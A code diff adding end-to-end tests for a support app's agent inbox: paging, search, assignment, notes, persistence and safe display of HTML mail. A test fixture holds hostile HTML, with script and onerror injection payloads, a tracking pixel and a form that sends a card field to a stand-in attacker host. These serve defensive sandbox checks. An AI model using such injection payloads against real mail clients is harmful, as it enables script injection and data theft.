@@ -1,0 +1,409 @@
+import { randomBytes } from 'node:crypto';
+import type { Browser, BrowserContext, ConsoleMessage, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
+import { deliver } from '../test/mailstack/mailstack';
+import { addMessage, generateConversations, installFakeInbox, type FakeInbox } from './support/fake-inbox';
+import { launchBrowser, makeDataDir, openApp, startHost, uniqueKeychainService, type RunningHost } from './support/host';
+import { deliverHtml } from './support/mail';
+import { LONG, card, createDialog, fillServer, group, seeText, testConnection } from './support/ui';
+
+/** The mail frame may open links in a new window, but never run script or share the app's origin. */
+function expectScriptFreeSandbox(sandbox: string | null): void {
+  expect(sandbox).not.toBeNull();
+  const tokens = sandbox!.split(/\s+/).filter(Boolean);
+  expect(tokens).not.toContain('allow-scripts');
+  expect(tokens).not.toContain('allow-same-origin');
+  expect(tokens).not.toContain('allow-top-navigation');
+  expect(tokens).not.toContain('allow-forms');
+}
+
+/**
+ * The agent inbox. The first part drives the UI against a stand-in for the inbox calls (so it can
+ * hold 100,000 conversations and hand-made hostile messages); the second runs the real thing: a mail
+ * sent through Postfix reaches the inbox of a channel created in the UI, and what agents change
+ * survives a restart.
+ */
+
+const stack = inject('mailstack');
+const support = stack.users.support;
+const customer = stack.users.customer;
+const token = randomBytes(4).toString('hex');
+
+const HOSTILE_HTML =
+  `<html><head><style>p{color:#123456}</style></head><body><p>Hello from HTML ${token}</p>` +
+  `<script>window.parent.document.title='pwned'</script>` +
+  `<img src=x onerror="window.parent.document.title='pwned'">` +
+  `<img src="https://tracker.example/pixel-${token}.png" alt="tracking pixel">` +
+  `<a href="https://example.com/help">Help centre</a>` +
+  `<form action="https://evil.example/"><input name="card"><button>Send</button></form></body></html>`;
+
+/** Console errors that would mean mail script ran (or tried to): none of them may appear. */
+function scriptErrors(messages: ConsoleMessage[]): string[] {
+  return messages
+    .filter((m) => m.type() === 'error')
+    .map((m) => m.text())
+    .filter((text) => /pwned|script|inline event handler|Blocked script execution/i.test(text));
+}
+
+function conversationRegion(page: Page, subject: string) {
+  return page.getByRole('region', { name: subject, exact: true });
+}
+
+function row(page: Page, subject: string) {
+  return page.getByRole('list', { name: 'Conversations' }).getByRole('link', { name: new RegExp(subject.replace(/[#.*+?^${}()|[\]\\]/g, '\\$&')) });
+}
+
+describe('Inbox UI (stand-in host)', () => {
+  let data: Awaited<ReturnType<typeof makeDataDir>>;
+  let host: RunningHost;
+  let browser: Browser;
+  let context: BrowserContext;
+  let page: Page;
+  let inbox: FakeInbox;
+  const consoleMessages: ConsoleMessage[] = [];
+
+  beforeAll(async () => {
+    data = await makeDataDir();
+    host = await startHost({ dataDir: data.dir, keychainService: uniqueKeychainService() });
+    browser = await launchBrowser();
+    context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
+    page = await context.newPage();
+    page.on('console', (m) => consoleMessages.push(m));
+    // Headless Chromium shows no desktop notifications; record what the app asks for instead.
+    await page.addInitScript(() => {
+      const shown: { title: string; body: string | undefined }[] = [];
+      class RecordingNotification {
+        static permission = 'granted';
+        static requestPermission = async () => 'granted';
+        onclick: (() => void) | null = null;
+        constructor(title: string, options?: { body?: string }) {
+          shown.push({ title, body: options?.body });
+        }
+      }
+      Object.assign(window, { Notification: RecordingNotification, shownNotifications: shown });
+    });
+    inbox = await installFakeInbox(page, generateConversations(100_000));
+    inbox.agents.push({ id: 1, name: 'Ada Lovelace', email: 'ada@auxilium.test' }, { id: 2, name: 'Grace Hopper', email: 'grace@auxilium.test' });
+    inbox.meAgentId = 1;
+    const first = inbox.conversations[0]!;
+    addMessage(inbox, first.id, {
+      text: 'Hi,\n\nmy parcel has not arrived. See <b>this</b> https://example.com/track\n\nThanks',
+      cc: [{ name: 'Boss', address: 'boss@example.com' }],
+      attachments: [{ id: 1, filename: 'invoice.pdf', contentType: 'application/pdf', size: 48_213, inline: false }],
+    });
+    addMessage(inbox, first.id, { kind: 'auto-reply', text: '', html: HOSTILE_HTML, date: new Date(Date.parse(first.lastMessageAt) + 60_000).toISOString() });
+    const broken = addMessage(inbox, first.id, { text: '', parseError: 'Parsing timed out', date: new Date(Date.parse(first.lastMessageAt) + 120_000).toISOString() });
+    inbox.raw.set(broken.id, 'Subject: broken\r\nContent-Type: multipart/mixed; boundary="zz"\r\n\r\n--zz\r\nraw body text');
+    await page.goto(`${host.url}#/inbox/all`);
+  });
+
+  afterAll(async () => {
+    await context?.close();
+    await browser?.close();
+    await host?.stop();
+    await data?.remove();
+  });
+
+  it('shows the views with counts in the sidebar', async () => {
+    const nav = page.getByRole('navigation', { name: 'Main' });
+    const open = inbox.conversations.filter((c) => c.status === 'open').length;
+    await nav.getByRole('link', { name: `All ${open} open`, exact: true }).waitFor();
+    await nav.getByRole('link', { name: `Unassigned ${open} open`, exact: true }).waitFor();
+    await nav.getByRole('link', { name: 'Mine 0 open', exact: true }).waitFor();
+    await page.getByRole('status').filter({ hasText: '100,000 conversations' }).waitFor();
+  });
+
+  it('pages through 100,000 conversations as it scrolls, with only the visible rows in the page', async () => {
+    await row(page, 'Order question #100000').waitFor();
+    const scroller = page.locator('.list-scroll');
+    // Scroll like a reader dragging down: the list grows a page at a time as the end comes near.
+    const target = row(page, 'Order question #98500');
+    for (let i = 0; i < 300 && (await target.count()) === 0; i++) {
+      await scroller.evaluate((el) => el.scrollBy(0, 2000));
+      await page.waitForTimeout(25);
+    }
+    await target.waitFor();
+    const lists = inbox.calls.filter((c) => c.channel === 'conversations:list');
+    expect(lists.length).toBeGreaterThan(1);
+    expect(lists.length).toBeLessThan(40);
+    expect(Math.max(...lists.map((c) => Number(c.input.limit ?? 100)))).toBeLessThanOrEqual(500);
+    expect(await page.getByRole('listitem').count()).toBeLessThan(60);
+    await scroller.evaluate((el) => el.scrollTo(0, 0));
+  });
+
+  it('marks unread rows with a dot named "Unread"', async () => {
+    const unread = row(page, 'Order question #99996');
+    await unread.waitFor();
+    expect(await unread.getByRole('img', { name: 'Unread' }).count()).toBe(1);
+    expect(await row(page, 'Order question #99999').getByRole('img', { name: 'Unread' }).count()).toBe(0);
+  });
+
+  it('searches as the user types', async () => {
+    const search = page.getByRole('searchbox', { name: 'Search' });
+    await search.fill('question #4242');
+    await row(page, 'Order question #42424').waitFor();
+    const sent = inbox.calls.filter((c) => c.channel === 'conversations:list' && c.input.query === 'question #4242');
+    expect(sent.length).toBe(1);
+    await search.fill('no-such-words');
+    await page.getByText('No conversations match your search.').waitFor();
+    await search.fill('');
+    await row(page, 'Order question #100000').waitFor();
+  });
+
+  it('opens a conversation: thread with To/Cc, attachments, badges, raw text for unreadable mail', async () => {
+    await row(page, 'Order question #100000').click();
+    const region = conversationRegion(page, 'Order question #100000');
+    await region.waitFor();
+    await seeText(region, /my parcel has not arrived/);
+    // Plain text stays text: the tag is shown, not rendered.
+    await seeText(region, 'See <b>this</b>', 5_000);
+    await seeText(region, 'Boss <boss@example.com>');
+    await seeText(region, 'invoice.pdf');
+    await seeText(region, '47 KB');
+    await seeText(region, 'Auto-reply');
+    await seeText(region, 'This message could not be read; shown as received');
+    await seeText(region, 'raw body text');
+    expect(page.url()).toMatch(/#\/inbox\/c\/100000$/);
+  });
+
+  it('shows HTML mail sanitised in a script-free sandbox: no script runs, remote content only on request', async () => {
+    const region = conversationRegion(page, 'Order question #100000');
+    const frame = region.locator('iframe');
+    await frame.waitFor();
+    expectScriptFreeSandbox(await frame.getAttribute('sandbox'));
+    const srcdoc = (await frame.getAttribute('srcdoc')) ?? '';
+    expect(srcdoc).toContain(`Hello from HTML ${token}`);
+    expect(srcdoc).not.toMatch(/<script|onerror|<form|<input/i);
+    expect(srcdoc).toContain(`img-src data: cid:`);
+    expect(srcdoc).toMatch(/<a [^>]*target="_blank"[^>]*rel="noopener noreferrer"/);
+    await page.waitForTimeout(500);
+    expect(await page.title()).toBe('Auxilium');
+    expect(scriptErrors(consoleMessages)).toEqual([]);
+
+    await region.getByRole('button', { name: 'Load remote content' }).click();
+    await expect.poll(async () => (await frame.getAttribute('srcdoc')) ?? '').toContain('img-src https: http: data:');
+    expect(await region.getByRole('button', { name: 'Load remote content' }).count()).toBe(0);
+    expect(await page.title()).toBe('Auxilium');
+  });
+
+  it('sets status and assignee, and adds an internal note', async () => {
+    const region = conversationRegion(page, 'Order question #100000');
+    await region.getByLabel('Status').selectOption({ label: 'Closed' });
+    await region.getByLabel('Assignee').selectOption({ label: 'Ada Lovelace (Me)' });
+    await seeText(row(page, 'Order question #100000'), 'Ada Lovelace (Me)');
+    await seeText(row(page, 'Order question #100000'), 'Closed');
+
+    await region.getByRole('button', { name: 'Add note' }).click();
+    await seeText(region, 'Write a note first', 5_000);
+    await region.getByLabel('Note', { exact: true }).fill('Called the customer back.');
+    await region.getByRole('button', { name: 'Add note' }).click();
+    const note = region.getByRole('article').filter({ hasText: 'Called the customer back.' });
+    await note.waitFor();
+    await seeText(note, 'Internal note');
+  });
+
+  it('adds new conversations live from the change event', async () => {
+    const fresh = { ...inbox.conversations[1]!, id: 100_001, subject: `Brand new ${token}`, lastMessageAt: new Date().toISOString(), unread: true, status: 'open' as const };
+    inbox.conversations.unshift(fresh);
+    inbox.emit('conversations:changed', { ids: [fresh.id], created: [fresh.id] });
+    await row(page, `Brand new ${token}`).waitFor({ timeout: 10_000 });
+    const open = inbox.conversations.filter((c) => c.status === 'open').length;
+    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: `All ${open} open`, exact: true }).waitFor();
+    await expect
+      .poll(() => page.evaluate(() => (window as unknown as { shownNotifications: unknown[] }).shownNotifications))
+      .toEqual([{ title: 'New conversation', body: `Customer 99999: Brand new ${token}` }]);
+    await page.screenshot({ path: 'test-results/inbox-stand-in.png' });
+  });
+});
+
+describe('Inbox end to end (real mail)', () => {
+  let data: Awaited<ReturnType<typeof makeDataDir>>;
+  const keychainService = uniqueKeychainService();
+  let host: RunningHost;
+  let browser: Browser;
+  let context: BrowserContext;
+  let page: Page;
+  const consoleMessages: ConsoleMessage[] = [];
+  const subject = `Where is my parcel ${token}`;
+  const bodyWord = `zebrafinch${token}`;
+  const htmlSubject = `HTML newsletter ${token}`;
+
+  beforeAll(async () => {
+    data = await makeDataDir();
+    host = await startHost({ dataDir: data.dir, keychainService });
+    browser = await launchBrowser();
+    ({ context, page } = await openApp(browser, host.url));
+    page.on('console', (m) => consoleMessages.push(m));
+  });
+
+  afterAll(async () => {
+    await context?.close();
+    await browser?.close();
+    await host?.stop();
+    await data?.remove();
+  });
+
+  it('adds agents in Settings and says who the user is', async () => {
+    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Settings' }).click();
+    await page.getByRole('heading', { level: 1, name: 'Settings' }).waitFor();
+    for (const agent of [
+      { name: 'Ada Lovelace', email: 'ada@auxilium.test' },
+      { name: 'Grace Hopper', email: 'grace@auxilium.test' },
+    ]) {
+      await page.getByRole('button', { name: 'Add agent' }).click();
+      const dialog = page.getByRole('dialog', { name: 'Add agent' });
+      await dialog.getByLabel('Name').fill(agent.name);
+      await dialog.getByLabel('Email').fill('not-an-address');
+      await dialog.getByRole('button', { name: 'Add agent' }).click();
+      await seeText(dialog, 'Enter an email address like agent@example.com', 5_000);
+      await dialog.getByLabel('Email').fill(agent.email);
+      await dialog.getByRole('button', { name: 'Add agent' }).click();
+      await dialog.waitFor({ state: 'detached', timeout: LONG });
+      await page.getByRole('listitem', { name: agent.name }).waitFor();
+    }
+    // Edit and delete work on a third one.
+    await page.getByRole('button', { name: 'Add agent' }).click();
+    const adding = page.getByRole('dialog', { name: 'Add agent' });
+    await adding.getByLabel('Name').fill('Temp Agent');
+    await adding.getByLabel('Email').fill('temp@auxilium.test');
+    await adding.getByRole('button', { name: 'Add agent' }).click();
+    await page.getByRole('listitem', { name: 'Temp Agent' }).waitFor();
+    await page.getByRole('button', { name: 'Edit Temp Agent' }).click();
+    const editing = page.getByRole('dialog', { name: 'Edit agent' });
+    await editing.getByLabel('Name').fill('');
+    await editing.getByRole('button', { name: 'Save' }).click();
+    await seeText(editing, 'Name is required', 5_000);
+    await editing.getByLabel('Name').fill('Temporary Agent');
+    await editing.getByRole('button', { name: 'Save' }).click();
+    await page.getByRole('listitem', { name: 'Temporary Agent' }).waitFor({ timeout: LONG });
+    await page.getByRole('button', { name: 'Delete Temporary Agent' }).click();
+    await page.getByRole('alertdialog').getByRole('button', { name: 'Delete', exact: true }).click();
+    await page.getByRole('listitem', { name: 'Temporary Agent' }).waitFor({ state: 'detached', timeout: LONG });
+
+    await page.getByLabel('I am').selectOption({ label: 'Ada Lovelace — ada@auxilium.test' });
+    await page.getByRole('listitem', { name: 'Ada Lovelace' }).getByText('Me', { exact: true }).waitFor();
+  });
+
+  it('creates the channel in the UI', async () => {
+    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Channels' }).click();
+    await page.getByRole('button', { name: 'Add Channel' }).click();
+    const dialog = createDialog(page);
+    await dialog.getByLabel('Channel Name').fill('Support Email');
+    await dialog.getByLabel('Channel Type').selectOption({ label: 'Email' });
+    await fillServer(group(dialog, 'IMAP Settings'), {
+      host: stack.host, port: stack.imap.starttls, username: support.user, password: support.password, tls: true, tlsMode: 'STARTTLS',
+    });
+    await fillServer(group(dialog, 'SMTP Settings'), {
+      host: stack.host, port: stack.smtp.starttls, username: support.user, password: support.password, tls: true,
+    });
+    const smtp = group(dialog, 'SMTP Settings');
+    await smtp.getByLabel('From Address').fill(support.address);
+    await group(dialog, 'Support Email Address').getByLabel('Support Address').fill(support.address);
+    const inboxSettings = dialog.getByRole('group', { name: 'Inbox Settings' });
+    expect(await inboxSettings.getByLabel('Mark imported mail as read on the server').isChecked()).toBe(false);
+    expect(await inboxSettings.getByLabel('Poll interval (seconds)').inputValue()).toBe('60');
+    expect(await inboxSettings.getByLabel('Import existing mail').inputValue()).toBe('14-days');
+    await inboxSettings.getByLabel('Poll interval (seconds)').fill('30');
+
+    const tested = await testConnection(dialog);
+    for (const region of [tested.imap, tested.smtp]) {
+      const trust = region.getByLabel('Trust this certificate for this channel');
+      if ((await trust.count()) > 0) await trust.check();
+    }
+    await dialog.getByRole('button', { name: 'Create', exact: true }).click();
+    await dialog.waitFor({ state: 'detached', timeout: LONG });
+    await card(page, 'Support Email').waitFor({ timeout: LONG });
+
+    // The inbox settings were kept; the initial import is a choice made only when creating.
+    await card(page, 'Support Email').getByRole('button', { name: 'Edit' }).click();
+    const edit = page.getByRole('dialog', { name: 'Edit Channel' });
+    const saved = edit.getByRole('group', { name: 'Inbox Settings' });
+    expect(await saved.getByLabel('Poll interval (seconds)').inputValue()).toBe('30');
+    expect(await saved.getByLabel('Import existing mail').count()).toBe(0);
+    await edit.getByRole('button', { name: 'Cancel' }).click();
+    await edit.waitFor({ state: 'detached' });
+  });
+
+  it('shows a mail sent to the support address in All and Unassigned without a reload', async () => {
+    const nav = page.getByRole('navigation', { name: 'Main' });
+    await nav.getByRole('link', { name: /^All\b/ }).click();
+    await page.getByRole('heading', { level: 1, name: /Inbox/ }).waitFor();
+    await deliver(stack, {
+      from: customer.address,
+      to: support.address,
+      subject,
+      text: `Hello,\n\nmy parcel with the ${bodyWord} figurine has not arrived.\n\nRegards`,
+    });
+    await row(page, subject).waitFor({ timeout: LONG });
+    expect(await row(page, subject).getByRole('img', { name: 'Unread' }).count()).toBe(1);
+    await nav.getByRole('link', { name: /^Unassigned [1-9]\d* open$/ }).waitFor({ timeout: LONG });
+
+    await nav.getByRole('link', { name: /^Unassigned\b/ }).click();
+    await row(page, subject).waitFor({ timeout: LONG });
+  });
+
+  it('opens the conversation and shows the body', async () => {
+    await row(page, subject).click();
+    const region = conversationRegion(page, subject);
+    await region.waitFor({ timeout: LONG });
+    await seeText(region, new RegExp(`${bodyWord} figurine has not arrived`));
+    await seeText(region, customer.address);
+    // Opening marked it read.
+    await expect.poll(() => row(page, subject).getByRole('img', { name: 'Unread' }).count(), { timeout: 10_000 }).toBe(0);
+  });
+
+  it('finds it by a word in the body', async () => {
+    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: /^All\b/ }).click();
+    const search = page.getByRole('searchbox', { name: 'Search' });
+    await search.fill(bodyWord);
+    await row(page, subject).waitFor({ timeout: LONG });
+    await search.fill(`nothing${token}matches`);
+    await page.getByText('No conversations match your search.').waitFor({ timeout: LONG });
+    await search.fill('');
+    await row(page, subject).waitFor({ timeout: LONG });
+  });
+
+  it('sets status Pending and assigns it to an agent', async () => {
+    await row(page, subject).click();
+    const region = conversationRegion(page, subject);
+    await region.waitFor({ timeout: LONG });
+    await region.getByLabel('Status').selectOption({ label: 'Pending' });
+    await region.getByLabel('Assignee').selectOption({ label: 'Grace Hopper' });
+    await seeText(row(page, subject), 'Pending');
+    await seeText(row(page, subject), 'Grace Hopper');
+    await region.getByLabel('Note', { exact: true }).fill(`Asked the courier ${token}`);
+    await region.getByRole('button', { name: 'Add note' }).click();
+    await seeText(region, `Asked the courier ${token}`);
+    await page.screenshot({ path: 'test-results/inbox-conversation.png' });
+  });
+
+  it('keeps status, assignee and note after a restart of the host', async () => {
+    const url = page.url();
+    await host.stop();
+    host = await startHost({ dataDir: data.dir, keychainService });
+    await page.goto(`${host.url}${new URL(url).hash}`);
+    const region = conversationRegion(page, subject);
+    await region.waitFor({ timeout: LONG });
+    await expect.poll(() => region.getByLabel('Status').inputValue(), { timeout: LONG }).toBe('pending');
+    const assignee = region.getByLabel('Assignee');
+    await expect.poll(async () => assignee.evaluate((el: HTMLSelectElement) => el.selectedOptions[0]?.textContent ?? ''), { timeout: LONG }).toBe('Grace Hopper');
+    await seeText(region, `Asked the courier ${token}`);
+    await seeText(region, 'Internal note');
+  });
+
+  it('never runs script from an HTML mail', async () => {
+    await deliverHtml(stack, { from: customer.address, to: support.address, subject: htmlSubject, html: HOSTILE_HTML });
+    await row(page, htmlSubject).waitFor({ timeout: LONG });
+    await row(page, htmlSubject).click();
+    const region = conversationRegion(page, htmlSubject);
+    const frame = region.locator('iframe');
+    await frame.waitFor({ timeout: LONG });
+    expectScriptFreeSandbox(await frame.getAttribute('sandbox'));
+    const srcdoc = (await frame.getAttribute('srcdoc')) ?? '';
+    expect(srcdoc).toContain(`Hello from HTML ${token}`);
+    expect(srcdoc).not.toMatch(/<script|onerror|<form/i);
+    await page.waitForTimeout(1000);
+    expect(await page.title()).toBe('Auxilium');
+    expect(scriptErrors(consoleMessages)).toEqual([]);
+  });
+});
